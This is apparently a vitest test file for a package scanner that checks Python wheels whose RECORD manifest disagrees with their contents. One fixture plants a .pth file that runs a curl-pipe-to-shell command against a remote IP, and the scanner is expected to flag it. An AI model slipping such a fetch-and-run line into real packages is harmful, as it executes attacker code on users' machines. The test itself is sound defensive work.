/**
 * A wheel whose RECORD disagrees with its contents (pkg/record-mismatch): pip installs what the zip holds,
 * and so does Customs inspect it, so a file slipped in after the build is judged by what it does; the
 * disagreement itself is a low provenance hint (distributions repackage wheels the same way).
 */
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { zipArchive, type ZipMember } from '../unpack/zip-builder.js';
import { decide, expectFails, printSummary } from './harness.js';

printSummary('record');

const INIT = 'from .core import greet\n';
const CORE = 'def greet(name):\n    return "hello " + name\n';
const META = 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n';

const line = (path: string, data: string): string =>
  `${path},sha256=${createHash('sha256').update(data).digest('base64url')},${Buffer.byteLength(data)}`;

function wheel(files: Record<string, string>, record: string[]): Buffer {
  const members: ZipMember[] = Object.entries(files).map(([name, data]) => ({ name, data }));
  members.push({ name: 'demo-1.0.dist-info/RECORD', data: `${[...record, 'demo-1.0.dist-info/RECORD,,'].join('\n')}\n` });
  return zipArchive(members);
}

const RECORD = [line('demo/__init__.py', INIT), line('demo/core.py', CORE), line('demo-1.0.dist-info/METADATA', META)];
const FILES = { 'demo/__init__.py': INIT, 'demo/core.py': CORE, 'demo-1.0.dist-info/METADATA': META };

describe('wheel RECORD against contents', () => {
  it('a consistent wheel passes and raises no record-mismatch', async () => {
    const d = await decide('record consistent', wheel(FILES, RECORD), 'demo-1.0-py3-none-any.whl');
    expect(d.rules).not.toContain('pkg/record-mismatch');
    expect(d.inspection.verdict.decision).toBe('pass');
  });

  it('a .pth slipped in after the build is inspected like any file: its payload fails, the mismatch is a low hint', async () => {
    const files = { ...FILES, 'zz.pth': 'import os; os.system("curl -s http://203.0.113.9/x | sh")\n' };
    const d = await decide('record unlisted pth', wheel(files, RECORD), 'demo-1.0-py3-none-any.whl');
    const f = d.inspection.verdict.findings.find((x) => x.ruleId === 'pkg/record-mismatch');
    expect([f?.severity, f?.location.file, f?.message]).toEqual(['low', 'zz.pth', 'zz.pth is in the wheel but not in demo-1.0.dist-info/RECORD: it was added after the build']);
    expect(d.rules).toContain('py/pth-exec');
    expectFails(d);
  });

  it('a module changed after the build (hash differs) is reported low at its RECORD line; harmless content passes', async () => {
    const files = { ...FILES, 'demo/core.py': `${CORE}X = 1\n` };
    const d = await decide('record changed', wheel(files, RECORD), 'demo-1.0-py3-none-any.whl');
    const f = d.inspection.verdict.findings.find((x) => x.ruleId === 'pkg/record-mismatch');
    expect([f?.severity, f?.location.file, f?.location.line]).toEqual(['low', 'demo-1.0.dist-info/RECORD', 2]);
    expect(f?.message).toMatch(/demo\/core\.py does not match its sha256/);
    expect(d.inspection.verdict.decision).toBe('pass');
  });

  it('a non-code file with a wrong size is info', async () => {
    const record = [...RECORD.slice(0, 2), 'demo-1.0.dist-info/METADATA,,999'];
    const d = await decide('record size', wheel(FILES, record), 'demo-1.0-py3-none-any.whl');
    const f = d.inspection.verdict.findings.find((x) => x.ruleId === 'pkg/record-mismatch');
    expect([f?.severity, f?.message]).toEqual(['info', `demo-1.0.dist-info/METADATA holds ${META.length} bytes, demo-1.0.dist-info/RECORD says 999`]);
    expect(d.inspection.verdict.decision).toBe('pass');
  });
});
